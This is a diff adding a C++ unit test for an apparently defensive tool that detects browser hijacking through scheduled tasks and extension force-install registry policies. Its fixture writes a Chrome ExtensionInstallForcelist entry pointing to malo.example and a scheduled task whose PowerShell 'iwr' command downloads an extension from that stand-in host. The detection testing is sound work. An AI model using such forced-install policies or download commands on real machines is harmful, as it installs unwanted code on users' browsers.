@@ -219,6 +219,31 @@ TEST_F(StartupSources, AnUnreadableTaskIsAnErrorAndTheRestGoesOn) {
     EXPECT_FALSE(task(L"Actualizador")->enabled);
 }
 
+// Offered with /startup alone: the task and the lock it reinstalls, not
+// another browser's list, which only the notes of the pair name.
+TEST_F(StartupSources, OffersTheLockATaskReinstallsAndNoOther) {
+    const std::wstring chromeId = L"abcdefghijklmnopabcdefghijklmnop";
+    const std::wstring policies = L"HKLM\\SOFTWARE\\Policies\\";
+    bench.platform.RegWrite(policies + L"Google\\Chrome\\ExtensionInstallForcelist\\1",
+                            chromeId + L";https://malo.example/u", RegistryType::String);
+    bench.platform.RegWrite(policies + L"Microsoft\\Edge\\ExtensionInstallForcelist\\1",
+                            L"ponmlkjihgfedcbaponmlkjihgfedcba;https://otro.example/u",
+                            RegistryType::String);
+    bench.addFiles({{kTasks + L"\\Reinstala",
+                     taskBytes(true, L"powershell.exe",
+                               L"-c iwr https://malo.example/" + chromeId + L".crx")}});
+    ASSERT_EQ(bench.check(), RunOutcome::RepairNeeded);
+    const auto& asked = bench.view.questions.back();
+    const auto offered = [&](std::wstring_view place) {
+        return std::ranges::any_of(asked, [&](const Finding& finding) {
+            return finding.place.find(place) != std::wstring::npos;
+        });
+    };
+    EXPECT_TRUE(offered(L"\\Reinstala"));
+    EXPECT_TRUE(offered(L"Chrome\\ExtensionInstallForcelist"));
+    EXPECT_FALSE(offered(L"Edge\\ExtensionInstallForcelist"));
+}
+
 TEST_F(StartupSources, AreReportOnlyOnAManagedMachine) {
     FailureLog failures(bench.platform);
     for (const auto& task : findHijackingTasks(bench.platform, true, {}, failures)) {
